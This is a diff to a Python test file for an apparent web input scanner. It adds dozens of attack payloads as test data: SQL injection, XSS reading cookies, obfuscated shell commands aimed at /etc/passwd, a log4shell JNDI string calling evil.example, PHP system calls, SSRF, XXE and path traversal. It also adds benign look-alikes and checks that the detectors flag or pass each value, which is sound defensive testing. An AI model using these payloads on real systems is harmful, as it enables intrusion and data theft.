@@ -231,6 +231,69 @@ ATTACKS = [
         "scanner",
     ),
     ("upload-php", "shell.php.jpg", AREA_FILENAME, "rce"),
+    # families added for the detection bars (DESIGN.md §11)
+    ("sqli-typographic-quotes", "1\u2019 OR \u20191\u2019=\u20191", AREA_BODY_VALUE, "sqli"),
+    ("sqli-typographic-comment", "admin\u2018 #", AREA_COOKIE, "sqli"),
+    ("sqli-padded-lines", "x' or 1=1--\n\n\n" + "padding text\n" * 8, AREA_BODY_VALUE, "sqli"),
+    ("sqli-postfix-test", "x' notnull --", AREA_BODY_VALUE, "sqli"),
+    ("sqli-literal-test", "'1' not regexp '2'", AREA_BODY_VALUE, "sqli"),
+    ("sqli-open-compare", "' or xyz-", AREA_QUERY_VALUE, "sqli"),
+    ("sqli-logic-constant-comment", "OR 1# ", AREA_BODY_VALUE, "sqli"),
+    ("sqli-collate-name", 'user\'collate"utf8mb4_general_ci"--', AREA_BODY_VALUE, "sqli"),
+    ("xss-us-ascii", "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe", AREA_BODY_VALUE, "xss"),
+    ("xss-entity-broken-scheme", "v&NewLine;b&Tab;script:msgbox(1)", AREA_BODY_VALUE, "xss"),
+    ("xss-dialog-call", "confirm.call(null,1)", AREA_QUERY_VALUE, "xss"),
+    ("xss-dialog-paren", "(alert)(1)", AREA_QUERY_VALUE, "xss"),
+    ("xss-optional-call", "alert?.(document?.cookie)", AREA_QUERY_VALUE, "xss"),
+    ("xss-document-index", 'document["cookie"]', AREA_QUERY_VALUE, "xss"),
+    ("xss-jsfuck-spaces", "(![] [])[ ! []]", AREA_BODY_VALUE, "xss"),
+    (
+        "xss-handler-name-long",
+        "  onwebkitplaybacktargetavailabilitychanged= ",
+        AREA_QUERY_NAME,
+        "xss",
+    ),
+    ("rce-unset-variable", "uname$u -a", AREA_COOKIE, "rce"),
+    ("rce-dollar-noise-file", "x;c$_at+/et$_c/pas$_swd", AREA_QUERY_VALUE, "ptrav"),
+    ("rce-decode-pipeline", "$(printf 'di' | rev)", AREA_QUERY_VALUE, "rce"),
+    ("rce-hidden-command-quotes", '""p""y""t""h""o""n""3 ""x""', AREA_QUERY_VALUE, "rce"),
+    ("rce-hidden-command-ticks", "p``in``g 127.0.0.1", AREA_BODY_VALUE, "rce"),
+    ("rce-powershell-program", "powershell C:\\windows\\notepad.exe", AREA_BODY_VALUE, "rce"),
+    ("rce-php-interpolation", "${@print(md5(1))}", AREA_BODY_VALUE, "rce"),
+    ("rce-php-chr-chain", "chr(115).chr(121).chr(115)", AREA_BODY_VALUE, "rce"),
+    ("rce-php-short-xml-tag", "<?xml :echo 1;", AREA_QUERY_VALUE, "rce"),
+    ("rce-node-iife", "x' (function(){while(1){}}()) '", AREA_BODY_VALUE, "rce"),
+    ("rce-react-flight", '{"then": "$1:__proto__:then"}', AREA_BODY_VALUE, "rce"),
+    ("rce-log4shell-entity", "$&lbrace;jndi:ldap://evil.example/a}", AREA_HEADER, "rce"),
+    ("rce-superglobal-name", "_SERVER[DOCUMENT_ROOT]", AREA_QUERY_NAME, "rce"),
+    ("upload-jsp-dots", "a.jspx..", AREA_FILENAME, "rce"),
+    ("upload-dotfile", ".bashrc", AREA_FILENAME, "rce"),
+    ("ssti-statement", "<% if true %>49<% end %>", AREA_QUERY_VALUE, "ssti"),
+    ("ssrf-ipv6-literal", "http://[a::b]/", AREA_QUERY_VALUE, "ssrf"),
+    ("ssrf-local-file", "local_file:///etc/hosts", AREA_QUERY_VALUE, "ssrf"),
+    ("ssrf-decimal-in-name", "http://2852039166/", AREA_QUERY_NAME, "ssrf"),
+    ("rfi-bare-ipv6", "https://2001:db8:701:1100::29c8/gecko.php", AREA_QUERY_VALUE, "rfi"),
+    ("lfi-data-php", "data:text/plain,<?php system('id');?>", AREA_QUERY_VALUE, "lfi"),
+    ("ptrav-unc-share", "\\\\10.0.0.5\\admin$\\system.ini", AREA_QUERY_VALUE, "ptrav"),
+    ("nosqli-or-array", "', $or: [ {}, { 'a':'a", AREA_QUERY_VALUE, "nosqli"),
+    (
+        "xxe-external-schema",
+        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+        'xsi:schemaLocation="http://a.b/ http://oob.example/a.xsd">a</a>',
+        AREA_BODY_VALUE,
+        "xxe",
+    ),
+    ("crlf-form-header", "x\r\nContent-Length: 0", AREA_BODY_VALUE, "crlf"),
+    ("ptrav-overlong-dots", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd", AREA_QUERY_VALUE, "ptrav"),
+    ("ptrav-encoded-dots", "%2e%2e%2f%2e%2e%2fapp.ini", AREA_COOKIE, "ptrav"),
+    ("sqli-glued-keyword", "SELECT\\NFROM`users`", AREA_QUERY_VALUE, "sqli"),
+    ("sqli-glued-union", "1union select 1,2", AREA_QUERY_VALUE, "sqli"),
+    (
+        "content-type-confusion",
+        'application/x-www-form-urlencoded; charset="text/xml"',
+        AREA_HEADER,
+        "scanner",
+    ),
 ]
 
 
@@ -343,6 +406,57 @@ BENIGN = [
     ("markdown-row-id", "| id | name |", AREA_BODY_VALUE),
     ("markdown-row-date", "| date | amount |", AREA_BODY_VALUE),
     ("markdown-row-top", "| top | sellers |", AREA_BODY_VALUE),
+    ("book-title", "JavaScript: The Good Parts", AREA_QUERY_VALUE),
+    ("book-title-lower", "learn javascript: closures and scope", AREA_QUERY_VALUE),
+    ("data-url-image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE=", AREA_BODY_VALUE),
+    ("data-url-text", "data:text/plain;base64,SSBsb3ZlIFBIUAo=", AREA_BODY_VALUE),
+    ("trailing-dotdot-path", "/docs/..", AREA_PATH),
+    ("php-word-with-bracket", "gethostbyname(", AREA_BODY_NAME),
+    ("empty-header-line", "\n\rlocation:\n\r", AREA_QUERY_VALUE),
+    ("fraction-pair", "\xbc cup sugar and \xbe cup flour (\xbc/\xbe)", AREA_BODY_VALUE),
+    (
+        "prose-smart-apostrophe",
+        "It\u2019s Tom\u2019s and Jerry\u2019s; that\u2019s all",
+        AREA_BODY_VALUE,
+    ),
+    ("prose-arrow", "step 1 --> step 2", AREA_BODY_VALUE),
+    ("collate-unknown", "user'collate foo--", AREA_BODY_VALUE),
+    (
+        "mtom-content-type",
+        'multipart/related; type="application/xop+xml"; start-info="text/xml"',
+        AREA_HEADER,
+    ),
+    ("soap-content-type", 'application/soap+xml; charset=utf-8; action="urn:x"', AREA_HEADER),
+    ("medium-profile-url", "https://medium.com/@user/post-1", AREA_QUERY_VALUE),
+    ("dollar-amount", "US$5 and AU$10 each", AREA_BODY_VALUE),
+    ("jinja-mention", "use {% raw %} in templates", AREA_BODY_VALUE),
+    ("ldap-filter-value", "(&(objectCategory=group)(cn=admins))", AREA_BODY_VALUE),
+    ("minified-js", '"use strict";(function(){var a=!0;window.x=a})();', AREA_BODY_VALUE),
+    ("mongo-or-filter", '{"$or": [{"status": "new"}, {"owner": "me"}]}', AREA_QUERY_VALUE),
+    (
+        "b2b-xml-no-schema",
+        '<Invoice xmlns="urn:oasis:names"><ID>42</ID></Invoice>',
+        AREA_BODY_VALUE,
+    ),
+    ("percent-text", "50%2e5 is not a number", AREA_QUERY_VALUE),
+    ("quoted-command-name", '"curl" examples for beginners', AREA_QUERY_VALUE),
+    ("command-word-then-apostrophe", "nc isn't working since monday", AREA_BODY_VALUE),
+    ("contraction-command-word", "I'd like to select a different slot", AREA_BODY_VALUE),
+    ("rst-literal", "``pip`` will typically get a wheel", AREA_BODY_VALUE),
+    ("unc-public-share", "\\\\fileserver\\public\\q3.xlsx", AREA_QUERY_VALUE),
+    (
+        "pom-schema-document",
+        '<project xmlns="http://maven.apache.org/POM/4.0.0"\n  xmlns:xsi="http://www.w3.org/'
+        '2001/XMLSchema-instance"\n  xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 '
+        'http://maven.apache.org/xsd/maven-4.0.0.xsd">\n</project>',
+        AREA_BODY_VALUE,
+    ),
+    (
+        "sql-doc-with-union",
+        "SELECT region, SUM(amount) FROM sales GROUP BY region\nUNION ALL\n"
+        "SELECT 'total', SUM(amount) FROM sales;",
+        AREA_BODY_VALUE,
+    ),
 ]
 
 
@@ -371,6 +485,13 @@ def test_benign_look_alike_passes(value: str, area: str) -> None:
         ("'or(glob 1)--", "comment-terminated"),
         ("id'not like id--", "comment-terminated"),
         ("x' and password glob password;", "comment-terminated"),
+        ("x' notnull --", "postfix-test"),
+        ("'x'!='y", "literal-test"),
+        ("' or abc!", "compare-open"),
+        ("OR 1# ", "logic-lead"),
+        ("admin'-- -", "comment"),
+        ("admin'#\nx", "comment"),
+        ("admin'--+", "comment"),
     ],
     ids=lambda v: str(v)[:24],
 )
@@ -394,6 +515,16 @@ def test_sqli_tokenizer_reasons(value: str, reason: str) -> None:
         "it's or nothing -- really",
         "It's and so on;",
         "the 'best' and brightest;",
+        "'hello' said she",
+        "customers' or suppliers' names",
+        "user'collate foo--",
+        "or 2 apples",
+        '* Configure with "--disable-root-environ" to disallow it',
+        "Assign short name '-q' to options '--quiet' and '--silent'.",
+        "2017/05/24: fix #60 : invalid state in parse_char_class()",
+        'Fixed sed error using "#" instead of a comma',
+        "Return NULL instead of '--' and 'N/A'",
+        "2018/03/19: ONIGENC_CTYPE_XXX to be enum (Issue #33)",
     ],
 )
 def test_sqli_tokenizer_passes_prose(value: str) -> None:
@@ -465,3 +596,13 @@ def test_fragment_is_bounded() -> None:
 def test_every_area_has_a_matcher() -> None:
     for area in SCANNED_AREAS:
         assert SCANNER.scan("hello world", area) == []
+
+
+def test_documents_keep_every_line_for_html_and_first_line_for_sql() -> None:
+    tokenizers_only = ValueScanner(rules=())
+    html = "A long post about our shop\nwith a second line of text\nand <svg onload=alert(1)>"
+    assert {f.rule_id for f in tokenizers_only.scan(html, AREA_BODY_VALUE)} == {"xss-tokens"}
+    padded = "x' or 1=1--\n" + "padding line of ordinary text\n" * 4
+    assert {f.rule_id for f in tokenizers_only.scan(padded, AREA_BODY_VALUE)} == {"sqli-tokens"}
+    later = "A long post about our shop\nwith a second line of text\nx' or 1=1--\n"
+    assert tokenizers_only.scan(later, AREA_BODY_VALUE) == []
